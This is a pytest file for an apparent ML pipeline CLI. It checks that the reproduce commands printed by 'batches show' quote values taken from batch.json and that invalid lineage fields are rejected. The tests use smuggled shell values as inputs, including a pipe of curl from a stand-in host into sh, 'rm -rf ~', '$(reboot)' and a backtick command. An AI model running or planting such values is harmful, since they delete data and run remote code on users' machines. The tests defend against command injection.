"""The commands `batches show` prints to make a batch again are pasted into shells: a value
from a batch.json must not be able to end a command and start another."""

from __future__ import annotations

import datetime as dt
import json
import shlex
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ensgan.cli import app
from ensgan.io.batches import BATCH_JSON, publish_batch
from ensgan.io.records import Lineage
from ensgan.io.storage import LocalStore
from ensgan.lineage import reproduce_commands
from tests.helpers import make_batch

runner = CliRunner()
COMMIT = "0123456789abcdef0123456789abcdef01234567"
MEMBERS = "0123456789abcdef0123456789abcdef.dir"


def test_every_value_in_a_command_is_quoted() -> None:
    """Even a record that skipped its checks (model_construct) yields one argument per value."""
    hostile = "abc; curl https://evil.invalid | sh"
    cmds = reproduce_commands("r", Lineage.model_construct(git_commit=hostile))
    assert shlex.split(cmds[0]) == ["git", "checkout", hostile]
    cmds = reproduce_commands("r", Lineage.model_construct(dvc_inputs={"models/members": hostile}))
    inner = shlex.split(cmds[0])[2]  # git checkout "$(...)": the pickaxe search inside
    assert inner.startswith("$(git log") and shlex.quote(hostile) in inner
    assert reproduce_commands("r", Lineage(dvc_inputs={"models/members": MEMBERS}))[1] == (
        "dvc pull prepare train stack"
    )


@pytest.mark.parametrize(
    ("lineage", "field"),
    [
        ({"git_commit": COMMIT[:-1] + "; rm -rf ~"}, "lineage.git_commit: not a git commit"),
        ({"git_commit": "$(reboot)"}, "lineage.git_commit: not a git commit"),
        (
            {"dvc_inputs": {"models/members": "`id`"}},
            "lineage.dvc_inputs.models/members: not a DVC",
        ),
        ({"dvc_lock_sha256": "x" * 64}, "lineage.dvc_lock_sha256: not a sha256"),
    ],
)
def test_show_refuses_a_lineage_that_is_not_what_it_claims(
    tmp_path: Path, lineage: dict, field: str
) -> None:
    store = LocalStore(tmp_path / "store")
    prefix = publish_batch(store, make_batch(tmp_path / "out")[0], dt.date(2026, 3, 14))["prefix"]
    path = tmp_path / "store" / prefix / BATCH_JSON
    path.write_text(json.dumps({**json.loads(path.read_text()), "lineage": lineage}))
    res = runner.invoke(app, ["batches", "show", "run-1", "--store", str(tmp_path / "store")])
    assert res.exit_code == 2
    assert f"{path} is not a valid batch.json ({field}" in res.output
    assert "to make it again" not in res.output  # no command is printed from it


def test_show_prints_the_commands_of_a_recorded_lineage(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    prefix = publish_batch(store, make_batch(tmp_path / "out")[0], dt.date(2026, 3, 14))["prefix"]
    path = tmp_path / "store" / prefix / BATCH_JSON
    lineage = {"git_commit": COMMIT, "git_dirty": False, "dvc_inputs": {"models/members": MEMBERS}}
    path.write_text(json.dumps({**json.loads(path.read_text()), "lineage": lineage}))
    res = runner.invoke(app, ["batches", "show", "run-1", "--store", str(tmp_path / "store")])
    assert res.exit_code == 0, res.output
    assert f"git commit  {COMMIT}\n" in res.output
    assert f"-S {MEMBERS} -- dvc.lock | head -n 1)" in res.output
